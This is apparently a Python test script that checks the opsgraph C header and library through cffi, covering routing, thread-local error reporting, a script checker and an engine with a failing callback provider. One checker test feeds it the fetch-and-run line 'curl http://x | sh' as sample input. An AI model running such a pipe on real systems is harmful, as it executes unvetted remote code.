"""opsgraph.h as cffi reads it: the declarations parse with no preprocessing beyond dropping
directive lines, and a router, a checker and an engine whose provider and event subscriber are
Python callbacks work through them (cffi's ABI mode, dlopen).

    python3 cffi_check.py <opsgraph.h> <libopsgraph_c.so>
"""
import json
import sys
import threading

import cffi


def declarations(header_text):
    """The header without preprocessor lines and without its C++-only extern "C" block."""
    out, skipping = [], False
    for line in header_text.splitlines():
        stripped = line.strip()
        if stripped.startswith("#ifdef __cplusplus"):
            skipping = True
        elif skipping and stripped.startswith("#endif"):
            skipping = False
        elif not skipping and not stripped.startswith("#"):
            out.append(line)
    return "\n".join(out)


def main(header_path, library_path):
    ffi = cffi.FFI()
    with open(header_path, encoding="utf-8") as f:
        ffi.cdef(declarations(f.read()))
    lib = ffi.dlopen(library_path)

    assert ffi.string(lib.opsgraph_version()).decode()
    assert lib.opsgraph_abi_version() >= 1
    assert ffi.string(lib.opsgraph_status_string(lib.OPSGRAPH_NOT_FOUND)) == b"not_found"

    router = ffi.new("opsgraph_router **")
    assert lib.opsgraph_router_create(ffi.NULL, router) == lib.OPSGRAPH_OK
    out = ffi.new("char **")
    status = lib.opsgraph_router_route(router[0], "Restart IIS on WEB01".encode(), ffi.NULL, out)
    assert status == lib.OPSGRAPH_OK, ffi.string(lib.opsgraph_last_error().message)
    decision = json.loads(ffi.string(out[0]).decode())
    lib.opsgraph_string_free(out[0])
    assert decision["schema_version"] == 1 and "risk" in decision, decision
    assert lib.opsgraph_router_route(router[0], b"\xff", ffi.NULL, out) == lib.OPSGRAPH_INVALID_UTF8
    assert out[0] == ffi.NULL
    error = lib.opsgraph_last_error()
    assert error.code == lib.OPSGRAPH_INVALID_UTF8
    assert json.loads(ffi.string(error.details_json).decode())["schema_version"] == 1

    # The last error is per thread: a failure on another thread leaves this one's alone.
    seen = {}

    def fail_elsewhere():
        lib.opsgraph_router_route(ffi.NULL, b"x", ffi.NULL, ffi.new("char **"))
        seen["code"] = lib.opsgraph_last_error().code

    worker = threading.Thread(target=fail_elsewhere)
    worker.start()
    worker.join()
    assert seen["code"] == lib.OPSGRAPH_NULL_ARGUMENT
    assert lib.opsgraph_last_error().code == lib.OPSGRAPH_INVALID_UTF8
    lib.opsgraph_router_destroy(router[0])

    options = ffi.new("opsgraph_checker_options *")
    assert lib.opsgraph_checker_options_init(options, ffi.sizeof(options[0])) == lib.OPSGRAPH_OK
    checker = ffi.new("opsgraph_checker **")
    assert lib.opsgraph_checker_create(options, checker) == lib.OPSGRAPH_OK
    assert lib.opsgraph_checker_scan(checker[0], b"curl http://x | sh\n", b"bash", out) == 0
    findings = json.loads(ffi.string(out[0]).decode())
    lib.opsgraph_string_free(out[0])
    assert findings["schema_version"] == 1 and isinstance(findings["findings"], list)
    lib.opsgraph_checker_destroy(checker[0])
    check_engine(ffi, lib)
    print("cffi: opsgraph.h parsed and used")


def check_engine(ffi, lib):
    """A provider whose every answer is an error, so the task fails; its events arrive."""
    asked, events = [], []

    @ffi.callback("void(const char *, opsgraph_reply *, void *)")
    def chat(request_json, reply, user_data):
        asked.append(json.loads(ffi.string(request_json).decode())["schema_version"])
        lib.opsgraph_reply_error(reply, lib.OPSGRAPH_CONTENT_FILTERED, b"refused", 0)

    @ffi.callback("void(const char *, void *)")
    def on_event(event_json, user_data):
        events.append(json.loads(ffi.string(event_json).decode()))

    provider = ffi.new("opsgraph_provider **")
    assert lib.opsgraph_provider_create(b"python", chat, ffi.NULL, ffi.NULL, provider) == 0
    options = ffi.new("opsgraph_engine_options *")
    assert lib.opsgraph_engine_options_init(options, ffi.sizeof(options[0])) == lib.OPSGRAPH_OK
    config = ffi.new("char[]", b'{"store": {"kind": "memory"}}')
    options.config_json = config
    options.provider = provider[0]
    options.ignore_environment = 1
    engine = ffi.new("opsgraph_engine **")
    status = lib.opsgraph_engine_create(options, engine)
    assert status == lib.OPSGRAPH_OK, ffi.string(lib.opsgraph_last_error().message)
    lib.opsgraph_provider_destroy(provider[0])
    subscription = ffi.new("opsgraph_subscription **")
    assert lib.opsgraph_engine_subscribe(engine[0], ffi.NULL, on_event, ffi.NULL, ffi.NULL,
                                         subscription) == lib.OPSGRAPH_OK

    out = ffi.new("char **")
    request = json.dumps({"request": "Restart IIS on WEB01"}).encode()
    assert lib.opsgraph_engine_execute(engine[0], request, out) == lib.OPSGRAPH_OK
    task = json.loads(ffi.string(out[0]).decode())
    lib.opsgraph_string_free(out[0])
    assert lib.opsgraph_engine_wait(engine[0], task["task_id"].encode(), lib.OPSGRAPH_WAIT_FINAL,
                                    30000, out) == lib.OPSGRAPH_OK
    task = json.loads(ffi.string(out[0]).decode())
    lib.opsgraph_string_free(out[0])
    assert task["status"] == "failed" and task["error"]["code"] == "content_filtered", task
    assert asked and asked[0] == 1
    assert lib.opsgraph_engine_status(engine[0], b"no-such-task", out) == lib.OPSGRAPH_NOT_FOUND
    lib.opsgraph_subscription_destroy(subscription[0])
    lib.opsgraph_engine_destroy(engine[0])
    assert any(e["task_id"] == task["task_id"] and e["schema_version"] == 1 for e in events)


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2])
